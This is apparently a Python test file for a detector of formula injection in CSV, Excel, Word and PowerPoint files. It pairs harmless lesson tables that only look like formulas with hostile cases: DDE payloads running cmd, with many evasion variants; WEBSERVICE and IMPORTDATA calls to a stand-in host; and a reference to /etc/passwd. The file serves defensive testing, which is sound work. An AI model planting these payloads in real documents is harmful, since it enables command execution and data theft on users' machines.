"""Tables as text and as workbooks, whose cells a program takes for formulas, and lessons whose
words only look like such."""

from functools import partial

from tests.hostile.case import Case
from tests.hostile.office import in_excel, in_word, pptx, remade

_MATH = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
_DDE = "=cmd|'/C calc'!A0"
_ASKING = '=WEBSERVICE("http://evil.test")'
_DDE_CELLS: tuple[tuple[str, str], ...] = (
    ("alone", f"a,{_DDE}"),
    ("with a doubled quote", "a,=cmd|'/C echo ''hi'' & calc'!A0"),
    ("behind a long cell", f"-1,{'x' * 9000},{_DDE}"),
    ("behind a sum", f"=1+1,a,b;{_DDE}"),
    ("over two lines", "a,\"=1+\ncmd|'/C calc'!A0\"\n"),
    ("behind a decimal comma", "a;=1,5+cmd|'/C a,b'!A0"),
    ("behind an ideographic space", f"a,\u3000{_DDE}"),
    ("behind a mark", f"a,\ufeff{_DDE}"),
    ("in a quotation that does not end", f'"a,{_DDE}'),
    ("in a quotation that ends early", f'"a" "b,{_DDE}'),
    ("by tabs", f"a\t{_DDE}"),
    ("by bars", f'sep=|\na|"{_DDE}"'),
    ("by a separator of its own", f"sep=^\na^{_DDE}"),
    ("by old Mac lines", f"a\r{_DDE}"),
    ("of an at sign", "@SUM(1,cmd|'/C calc'!A0)"),
    ("between empty texts", '=""&cmd|\'/C calc\'!A0&""'),
    ("between quoted texts", '甲,"=IF(1=1,""""&cmd|\'/C calc\'!A0,"""")"'),
    ("behind a space of no width", f"a,\u200b{_DDE}"),
    ("with blanks between", "=cmd | '/C calc' ! A0"),
)
_CALLS: tuple[tuple[str, str, str], ...] = (
    ("a service behind a long cell", f'-1,{"x" * 9000},"=WEBSERVICE(""http://evil.test"")"', "action"),
    ("a service", _ASKING, "action"),
    ("a service by another name", "=LET(f,A1,WEBSERVICE(f))", "action"),
    ("for a link in pieces", '1,"=HYPERLINK(""a.docx""&"".exe"",""点"")"', "action"),
    ("an import", '=IMPORTDATA("http://evil.test")', "action"),
    ("a file of the computer", "='file:///etc/passwd'#$passwd.A1", "external-reference"),
    ("another table", "='D:\\a\\[b.csv]S'!A1", "external-reference"),
    ("another table beside", "=[b.ods]S!A1", "external-reference"),
)  # fmt: skip
_FORMULAS: tuple[tuple[str, str], ...] = (
    ("_xlfn.MAP(A1,_xleta.WEBSERVICE)", "action"),
    ("SQL.REQUEST(&quot;DSN=x&quot;,&quot;&quot;,2,&quot;select 1&quot;)", "action"),
    ("_xlfn._xlws.PY(0,1)", "action"),
    ("Table1[&apos;[]+cmd|&apos;/c calc&apos;!A0", "dde"),
    ("cmd|&apos;/c echo &apos;&apos;a&apos;&apos;&apos;!A0", "dde"),
    ("[cmd|&apos;/c calc&apos;!A0", "dde"),
)

_WORDED = (
    '1,"=IF(A2="""",""差|好!"","""")"', "- 打开 main.py (见附件)", '"- call (n.) a telephone call"',
    "- 先看[教案.docx]再做题，加油!", "1,- [x] 完成|下一题!", "-|5|!", "@image (头像) 你好",
)  # fmt: skip


def _fraction(over: str, under: str) -> str:
    def run(text: str) -> str:
        return f"<m:r><m:t>{text}</m:t></m:r>"

    return f"<m:oMath {_MATH}><m:f><m:num>{run(over)}</m:num><m:den>{run(under)}</m:den></m:f></m:oMath>"


def _in_slide(xml: str) -> bytes:
    return remade(
        pptx(), change={"ppt/slides/slide1.xml": (b"</p:spTree>", f"{xml}</p:spTree>".encode())}
    )


HONEST = [
    Case("a fraction of absolute values", "a.docx", lambda: in_word(f"<w:p>{_fraction('|x|', '|y|')}</w:p>")),
    Case("a rule of Bayes", "a.docx", lambda: in_word(f"<w:p>{_fraction('P(A|B)P(B)', 'P(A)')}</w:p>")),
    Case("a fraction on a slide", "a.pptx", lambda: _in_slide(_fraction("|a|", "a"))),
    Case("a workbook with a bar in a column's name", "a.xlsx", lambda: in_excel("Table1[[#This Row],[期中|期末]]*2+SUM(T[a|b])")),
    Case("a workbook with its own name", "a.xlsx", lambda: in_excel("[0]!总分+Table1[No.ok]")),
    Case("a list of words", "a.csv", lambda: "词,义\ncall (v.),打电话\n-ing,现在分词\nimage (n.),图像！|!\n".encode()),
    Case("a table of numbers and sums", "a.csv", lambda: "-1,+2,=SUM(A1:A3),@张三,|a|b\n".encode()),
    *(Case(f"a table with {line!r}", "a.csv", partial(str.encode, f"a,b\n{line}\n")) for line in _WORDED),
    Case("a table of choices", "a.csv", lambda: "题,选项\n1,- 对|错 好!\n".encode()),
]  # fmt: skip

HOSTILE = [
    *(Case(f"a table with DDE {how}", "a.csv", partial(str.encode, text), "dde") for how, text in _DDE_CELLS),
    *(Case(f"a table that asks {what}", "a.csv", partial(str.encode, text), code) for what, text, code in _CALLS),
    *(Case(f"a formula {formula!r}", "a.xlsx", partial(in_excel, formula), code) for formula, code in _FORMULAS),
]  # fmt: skip
